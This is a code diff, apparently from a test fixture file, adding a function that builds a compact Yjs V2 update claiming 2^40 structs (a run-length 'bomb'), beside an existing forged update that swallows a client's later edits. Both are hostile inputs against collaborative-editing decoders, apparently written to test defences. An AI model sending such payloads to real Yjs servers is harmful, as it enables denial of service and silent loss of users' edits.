@@ -93,6 +93,23 @@ export function v2Update(client = 77): Uint8Array {
   return Y.encodeStateAsUpdateV2(doc)
 }
 
+/** M1: 2^40 structs in a few bytes of the V2 encoding, whose columns repeat their last value for ever. */
+export function runLengthBomb(client = 77, count = 2 ** 40): Uint8Array {
+  const column = (write: (encoder: encoding.Encoder) => void): Uint8Array => {
+    const encoder = encoding.createEncoder()
+    write(encoder)
+    return encoding.toUint8Array(encoder)
+  }
+  const empty = new Uint8Array()
+  const lengths = column((encoder) => { encoding.writeVarInt(encoder, -1); encoding.writeVarUint(encoder, count - 2) })
+  const columns = [empty, column((encoder) => { encoding.writeVarInt(encoder, client) }), empty, empty, new Uint8Array([0]), new Uint8Array([0]), empty, empty, lengths]
+  const encoder = encoding.createEncoder()
+  encoding.writeVarUint(encoder, 0)
+  for (const each of columns) encoding.writeVarUint8Array(encoder, each)
+  for (const each of [1, count, 0, 0]) encoding.writeVarUint(encoder, each)
+  return encoding.toUint8Array(encoder)
+}
+
 /** M2: sixteen bytes that swallow all later edits of a client id. */
 export function forgedRun(client: number, clock = 0, length = 2 ** 40): Uint8Array {
   return rawUpdate([{ client, clock, structs: [gcStruct(length)] }])
